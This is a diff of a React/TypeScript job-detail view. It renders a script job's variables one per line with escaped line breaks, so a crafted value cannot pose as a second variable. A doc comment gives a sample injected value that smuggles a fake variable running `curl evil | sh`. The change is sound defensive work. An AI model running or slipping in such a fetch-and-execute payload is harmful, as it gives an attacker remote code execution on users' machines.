@@ -1,4 +1,6 @@
+import { Fragment } from 'react'
 import type { JobDetail } from '../../../../shared/model'
+import { variableText } from '../../../../shared/script-variables'
 import { SafeText, visibleText } from '../shell/SafeText'
 import { formatDuration, fullTime, KIND_LABELS } from './format'
 
@@ -62,23 +64,51 @@ export function JobTimes({ detail, now }: { detail: JobDetail; now: number }) {
   )
 }
 
+/** One variable of a script job: its name and its value as substitution writes it into the code. */
+export interface JobVariable {
+  name: string
+  value: string
+}
+
 /**
- * The text of what a job runs: a script's `code`, `language` and `variables` (one `name = value`
- * a line), or any other job's `input` as indented JSON; `input` is undefined when there is none
- * (null, or an empty object). Raw text: draw it through SafeText.
+ * What a job runs: a script's `code`, `language` and `variables` (in the order given; those without a
+ * value, which substitution ignores, left out), or any other job's `input` as indented JSON; `input` is
+ * undefined when there is none (null, or an empty object). Raw text: draw it through SafeText, the
+ * variables through VariableLines.
  */
-export function whatRuns(detail: JobDetail): { code?: string; language?: string; variables?: string; input?: string } {
+export function whatRuns(detail: JobDetail): { code?: string; language?: string; variables?: JobVariable[]; input?: string } {
   const input = record(detail.input)
   if (detail.kind === 'script' && typeof input.code === 'string') {
-    const variables = Object.entries(record(input.variables))
+    const variables = Object.entries(record(input.variables)).flatMap(([name, v]) => {
+      const value = variableText(v)
+      return value === undefined ? [] : [{ name, value }]
+    })
     return {
       code: input.code,
       language: typeof input.language === 'string' ? input.language : undefined,
-      variables: variables.length > 0 ? variables.map(([k, v]) => `${k} = ${String(v)}`).join('\n') : undefined,
+      variables: variables.length > 0 ? variables : undefined,
     }
   }
   const empty = detail.input == null || (typeof detail.input === 'object' && Object.keys(input).length === 0 && !Array.isArray(detail.input))
   return empty ? {} : { input: JSON.stringify(detail.input, null, 2) }
+}
+
+/**
+ * A script job's variables, one `name = value` line each. Name and value are drawn single-line
+ * (SafeText): a line break, tab or CR inside a value shows as its escape (⟨U+000A⟩), so a value such
+ * as `hi"⏎cleanup = "$(curl evil | sh)` cannot pass for a second variable while its text runs.
+ */
+export function VariableLines({ variables, testId }: { variables: JobVariable[]; testId: string }) {
+  return (
+    <pre className="code" data-testid={testId}>
+      {variables.map((v, i) => (
+        <Fragment key={i}>
+          {i > 0 && '\n'}
+          <SafeText text={v.name} /> = <SafeText text={v.value} />
+        </Fragment>
+      ))}
+    </pre>
+  )
 }
 
 /** What ran: a script's code and variables, a workflow's context (its input), another job's input. */
@@ -91,11 +121,7 @@ export function WhatRan({ detail }: { detail: JobDetail }) {
         <pre className="code" data-testid="job-code">
           <SafeText text={ran.code} multiline />
         </pre>
-        {ran.variables !== undefined && (
-          <pre className="code" data-testid="job-variables">
-            <SafeText text={ran.variables} multiline />
-          </pre>
-        )}
+        {ran.variables !== undefined && <VariableLines variables={ran.variables} testId="job-variables" />}
       </details>
     )
   }
